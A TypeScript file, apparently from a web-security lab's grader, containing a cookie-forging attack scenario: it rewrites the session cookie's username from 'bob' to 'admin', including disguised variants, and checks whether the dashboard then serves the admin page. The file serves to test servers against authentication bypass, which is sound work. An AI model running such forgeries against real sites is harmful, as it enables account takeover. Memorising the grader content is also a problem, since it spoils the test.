import { attack } from "../kit/grader/attack.ts";
import { rewritten } from "./disguises.ts";

/** Every Cookie header that holds `to` where the thief's own header holds `from`, plain or thinly disguised. */
export async function forgeries(cookieHeader: string, from: string, to: string): Promise<string[]> {
  const cookies = cookieHeader.split("; ").map(async (cookie) => {
    const at = cookie.indexOf("=") + 1;
    return (await rewritten(cookie.slice(at), from, to)).map((value) => cookie.slice(0, at) + value);
  });
  const [first = [], ...rest] = await Promise.all(cookies);
  const headers = first.map((cookie, variant) => [cookie, ...rest.map((variants) => variants[variant])].join("; "));
  return [...new Set(headers)].filter((forged) => forged !== cookieHeader);
}

// #region attack
export default attack(
  "forging the cookie",
  "Anybody who can type the admin's name is the admin.",
  async ({ thief, say }) => {
    say("The thief has an account, bob's, and logs in with it.");
    await thief.login("bob", "builder");
    for (const forged of await forgeries(thief.cookieHeader(), "bob", "admin")) {
      say(`He sends "${forged}" instead of the value that the server gave him.`);
      const page = await thief.get("/dashboard", { headers: { cookie: forged } });
      if (page.response.status === 200) return page.response.body;
    }
    say("No text in his cookie makes him another user.");
    return undefined;
  },
);
// #endregion
